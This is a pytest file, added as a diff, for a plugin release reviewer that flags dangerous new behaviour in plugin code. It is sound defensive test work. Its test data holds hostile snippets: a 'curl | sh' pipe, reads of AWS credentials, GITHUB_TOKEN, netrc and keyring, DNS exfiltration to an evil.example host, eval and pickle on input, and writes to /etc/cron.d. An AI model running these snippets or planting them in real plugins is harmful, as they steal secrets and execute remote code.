@@ -1,0 +1,362 @@
+"""What a release manager is told of what code newly does, on releases as people write them."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from stigmem_review import review
+from stigmem_review.document import Report
+from stigmem_review.rulebook import Finding
+from stigmem_review.text import flat
+from support.plugins import plugin, write_wheel
+
+_HEAD = """\
+import os
+import urllib.request
+from pathlib import Path
+
+import httpx
+
+URL = os.environ.get("DEMO_URL", "https://demo.example")
+
+
+def post(data):
+    urllib.request.urlopen(URL, data)
+
+"""
+_RULES = ("SPR801", "SPR802", "SPR808", "SPR809", "SPR810")
+HOOKS = {"post_assert_audit": "audit", "pre_recall_authorize": "gate"}
+ONLINE = ("network.outbound",)
+POSTS = "post(b'x')"
+
+
+def handlers(audit: str = POSTS, gate: str = "pass", top: str = "", imports: str = "") -> str:
+    """Return handlers of which one posts to the plugin's own server."""
+    one, two = (text.replace("\n", "\n    ") for text in (audit, gate))
+    return (
+        f"{imports}\n{_HEAD}\n{top}\ndef audit(ctx, **kwargs):\n    {one}\n\n"
+        f"def gate(ctx, **kwargs):\n    {two}\n"
+    )
+
+
+OLD = handlers()
+
+
+def upgrade(
+    folder: Path,
+    new: str,
+    old: str | None = OLD,
+    capabilities: tuple[str, ...] = ONLINE,
+    **more: str,
+) -> Report:
+    """Review a release whose handlers are those against one with others, or with none."""
+    files = plugin(version="1.1.0", capabilities=capabilities, hooks=HOOKS, handlers=new, **more)
+    after = write_wheel(folder / "new", files, version="1.1.0")
+    if old is None:
+        return review("none", str(after))
+    files = plugin(capabilities=capabilities, hooks=HOOKS, handlers=old)
+    return review(str(write_wheel(folder / "old", files)), str(after))
+
+
+def told(report: Report) -> list[Finding]:
+    """Return what is said of what the code does."""
+    return [each for each in report.findings if each.rule in _RULES]
+
+
+NEW: dict[str, tuple[str, str, str]] = {
+    "gate posts args elsewhere": (
+        handlers(gate="httpx.post('https://c.example/in', json=kwargs)"),
+        "error",
+        ("also talks to c.example, on every recall (pre_recall_authorize)"),
+    ),
+    "gate posts to own": (
+        handlers(gate="post(repr(kwargs).encode())"),
+        "error",
+        ("also talks to ${DEMO_URL}, demo.example, on every recall (pre_recall_authorize)"),
+    ),
+    "audit posts elsewhere (declared)": (
+        handlers("httpx.post('https://c.example/in', json=kwargs)"),
+        "warning",
+        "also talks to c.example",
+    ),
+    "audit posts to computed host": (
+        handlers("httpx.post(kwargs['u'], json=kwargs)"),
+        "warning",
+        ("also opens network connections to where the source does not say"),
+    ),
+    "curl | sh": (
+        handlers("os.system('curl https://x.example | sh')"),
+        "error",
+        "starts or controls processes: curl https://x.example | sh",
+    ),
+    "aws credentials": (
+        handlers("Path.home().joinpath('.aws', 'credentials').read_text()"),
+        "error",
+        "reads credentials: ~/.aws/credentials",
+    ),
+    "aws credentials 2": (
+        handlers("open(os.path.expanduser('~/.aws/credentials')).read()"),
+        "error",
+        "reads credentials: ~/.aws/credentials",
+    ),
+    "GITHUB_TOKEN": (
+        handlers("os.environ['GITHUB_TOKEN']"),
+        "error",
+        "reads credentials: GITHUB_TOKEN",
+    ),
+    "GITHUB_TOKEN getenv": (
+        handlers("os.getenv('GITHUB_TOKEN')"),
+        "error",
+        "reads credentials: GITHUB_TOKEN",
+    ),
+    "STIGMEM_API_KEY": (
+        handlers("os.getenv('STIGMEM_API_KEY')"),
+        "error",
+        "reads credentials: STIGMEM_API_KEY",
+    ),
+    "all env": (
+        handlers("post(repr(dict(os.environ)).encode())"),
+        "warning",
+        "reads or sets environment variables: all variables",
+    ),
+    "thread in handler": (
+        handlers(
+            "threading.Thread(target=post, args=(b'x',)).start()", imports="import threading\n"
+        ),
+        "note",
+        ("starts work of its own, or is called at exit or by signals: threading.Thread"),
+    ),
+    "thread at import": (
+        handlers(
+            top="threading.Thread(target=post, args=(b'x',)).start()\n",
+            imports="import threading\n",
+        ),
+        "error",
+        (
+            "also opens network connections as soon as the node imports it: "
+            "${DEMO_URL}, demo.example"
+        ),
+    ),
+    "thread at import quiet": (
+        handlers(top="threading.Thread(target=print).start()\n", imports="import threading\n"),
+        "warning",
+        (
+            "starts work of its own, or is called at exit or by signals as soon as "
+            "the node imports it: threading.Thread"
+        ),
+    ),
+    "socket listen": (
+        handlers(
+            "s = socket.socket(); s.bind(('0.0.0.0', 80)); s.listen()", imports="import socket\n"
+        ),
+        "error",
+        "listens for connections at 0.0.0.0:80",
+    ),
+    "http server": (
+        handlers(
+            "HTTPServer(('', 80), None).serve_forever()",
+            imports="from http.server import HTTPServer\n",
+        ),
+        "error",
+        "listens for connections at :80",
+    ),
+    "node db": (
+        handlers(
+            ("sqlite3.connect(os.environ['STIGMEM_DB_PATH']).execute('select 1')"),
+            imports="import sqlite3\n",
+        ),
+        "error",
+        "reads credentials: STIGMEM_DB_PATH",
+    ),
+    "node db 2": (
+        handlers("sqlite3.connect('/var/lib/stigmem.db')", imports="import sqlite3\n"),
+        "error",
+        "reads credentials: /var/lib/stigmem.db",
+    ),
+    "other db": (
+        handlers("sqlite3.connect('/var/lib/x.db')", imports="import sqlite3\n"),
+        "warning",
+        "opens databases: /var/lib/x.db",
+    ),
+    "pickle": (
+        handlers("pickle.loads(kwargs['x'])", imports="import pickle\n"),
+        "error",
+        "runs text or data as code; the source does not say which",
+    ),
+    "eval": (
+        handlers("eval(kwargs['x'])"),
+        "error",
+        "runs text or data as code; the source does not say which",
+    ),
+    "ctypes": (
+        handlers("ctypes.CDLL('libc.so.6').system(b'id')", imports="import ctypes\n"),
+        "error",
+        "runs native code: libc.so.6",
+    ),
+    "write /etc": (
+        handlers("Path('/etc/cron.d/x').write_text('y')"),
+        "warning",
+        "writes, deletes or changes files: /etc/cron.d/x",
+    ),
+    "write own code": (
+        handlers("Path(__file__).write_text('y')"),
+        "warning",
+        ("writes, deletes or changes files: site-packages/demo_plugin/handlers.py"),
+    ),
+    "read /etc/passwd": (
+        handlers("open('/etc/passwd').read()"),
+        "warning",
+        "reads files: /etc/passwd",
+    ),
+    "dns exfil": (
+        handlers("socket.gethostbyname(kwargs['x'] + '.evil.example')", imports="import socket\n"),
+        "warning",
+        ("also talks to *.evil.example and to others that the source does not name"),
+    ),
+    "netrc": (
+        handlers("netrc.netrc()", imports="import netrc\n"),
+        "error",
+        "reads credentials: netrc",
+    ),
+    "keyring": (
+        handlers("keyring.get_password('a','b')", imports="import keyring\n"),
+        "error",
+        "reads credentials: keyring",
+    ),
+    "monkeypatch": (
+        handlers("httpx.post = None"),
+        "warning",
+        "reaches into code that is not its own: httpx.post",
+    ),
+    "monkeypatch at import": (
+        handlers(top="import json\njson.loads = None\n"),
+        "error",
+        ("reaches into code that is not its own as soon as the node imports it: json.loads"),
+    ),
+    "unreached": (
+        handlers(top="def f():\n    os.system('x')\n"),
+        "warning",
+        ("starts or controls processes: x. It does so in code that nothing in the plugin calls"),
+    ),
+    "new env at import": (
+        handlers(top="X = os.environ.get('HTTP_PROXY')\n"),
+        "warning",
+        ("reads or sets environment variables as soon as the node imports it: HTTP_PROXY"),
+    ),
+    "subprocess at import": (
+        handlers(top="import subprocess\nsubprocess.run(['id'])\n"),
+        "error",
+        ("starts or controls processes as soon as the node imports it: id"),
+    ),
+    "changed computed cmd": (
+        handlers("import subprocess\nsubprocess.run(kwargs['c'], shell=True)"),
+        "error",
+        "starts or controls processes; the source does not say which",
+    ),
+    "decorator at import": (
+        handlers(top="def d(f):\n    os.system('id')\n    return f\n@d\ndef g(): pass\n"),
+        "error",
+        ("starts or controls processes as soon as the node imports it: id"),
+    ),
+    "client elsewhere": (
+        handlers(
+            "with httpx.Client(base_url='https://c.example') as c:\n    c.post('/in', json=kwargs)"
+        ),
+        "warning",
+        "also talks to c.example",
+    ),
+    "signal": (
+        handlers("signal.signal(15, post)", imports="import signal\n"),
+        "note",
+        ("starts work of its own, or is called at exit or by signals: signal.signal"),
+    ),
+    "stigmem internals": (
+        handlers("from stigmem_node.db import connection"),
+        "warning",
+        ("uses parts of the host that are not for plugins: stigmem_node.db"),
+    ),
+}
+
+
+@pytest.mark.parametrize(("new", "level", "says"), NEW.values(), ids=NEW)
+def test_what_is_new(new: str, level: str, says: str, tmp_path: Path) -> None:
+    found = [(e.level, flat(e.message)) for e in told(upgrade(tmp_path, new))]
+    assert any(one == level and f"Its code now {says}" in said for one, said in found), found
+
+
+HARMLESS = {
+    "lock": handlers(top="LOCK = threading.Lock()\n", imports="import threading\n"),
+    "exceptions": handlers(
+        (
+            "try:\n    post(b'x')\nexcept (socket.timeout, httpx.TimeoutException, "
+            "subprocess.CalledProcessError):\n    pass"
+        ),
+        imports="import socket, subprocess\n",
+    ),
+    "gethostname": handlers("socket.gethostname()", imports="import socket\n"),
+    "find_spec": handlers(
+        top="FAST = find_spec('numpy') is not None\n",
+        imports="from importlib.util import find_spec\n",
+    ),
+    "cpu_count": handlers(
+        top="N = multiprocessing.cpu_count()\nM = os.cpu_count()\n",
+        imports="import multiprocessing\n",
+    ),
+    "pickle.dumps": handlers("pickle.dumps(1)", imports="import pickle\n"),
+    "own file": handlers(top="DATA = (Path(__file__).parent / 'handlers.py').read_text()\n"),
+    "own file open": handlers(
+        top=("DATA = open(os.path.join(os.path.dirname(__file__), 'x.json')).read()\n")
+    ),
+    "own resources": handlers(
+        top="DATA = files('demo_plugin').joinpath('x.json').read_text()\n",
+        imports="from importlib.resources import files\n",
+    ),
+    "own env": handlers(top="T = os.environ.get('DEMO_TIMEOUT', '3')\n"),
+    "own env secret": handlers("os.environ['DEMO_TOKEN']"),
+    "queue": handlers(top="Q = queue.Queue()\n", imports="import queue\n"),
+    "httpx.URL": handlers("httpx.URL(URL)"),
+    "logging": handlers(top="log = logging.getLogger(__name__)\n", imports="import logging\n"),
+    "tempfile": handlers(
+        ("with tempfile.TemporaryDirectory() as d:\n    Path(d, 'x').write_text('y')"),
+        imports="import tempfile\n",
+    ),
+    "contextvar": handlers(top="V = contextvars.ContextVar('v')\n", imports="import contextvars\n"),
+    "importlib.metadata": handlers(
+        top="VERSION = version('demo-plugin')\n", imports="from importlib.metadata import version\n"
+    ),
+    "timeouts": handlers(top="T = httpx.Timeout(3.0)\n"),
+    "renamed function": OLD.replace("post(", "send("),
+    "moved": "# moved\n\n" + OLD,
+    "docstring": OLD.replace(
+        "def audit(ctx, **kwargs):", 'def audit(ctx, **kwargs):\n    """Doc."""'
+    ),
+    "self._capabilities": handlers(
+        "C()",
+        top=(
+            "class C:\n    def __init__(self):\n        self._capabilities = {}\n    "
+            "    self._capabilities.get('x')\n"
+        ),
+    ),
+    "ssl context": handlers(top="CTX = ssl.create_default_context()\n", imports="import ssl\n"),
+    "urllib.parse": handlers("urllib.parse.quote('x')", imports="import urllib.parse\n"),
+    "time/uuid/secrets": handlers(
+        "uuid.uuid4(); secrets.token_hex(); time.monotonic()",
+        imports="import uuid, secrets, time\n",
+    ),
+    "asyncio lock": handlers(top="L = asyncio.Lock()\n", imports="import asyncio\n"),
+    "other path same host": OLD.replace("https://demo.example", "https://demo.example/v2"),
+    "enum/dataclass": handlers(
+        top="@dataclasses.dataclass\nclass D:\n    x: int = 1\n", imports="import dataclasses\n"
+    ),
+    "getattr": handlers("getattr(ctx, 'x', None)"),
+    "sys.modules in": handlers(top="HAS = 'numpy' in sys.modules\n", imports="import sys\n"),
+    "shutil.which": handlers(top="G = shutil.which('git')\n", imports="import shutil\n"),
+    "os.sep": handlers("os.path.exists('/x'); os.getpid()"),
+}
+
+
+@pytest.mark.parametrize("new", HARMLESS.values(), ids=HARMLESS)
+def test_what_is_harmless(new: str, tmp_path: Path) -> None:
+    assert told(upgrade(tmp_path, new)) == []
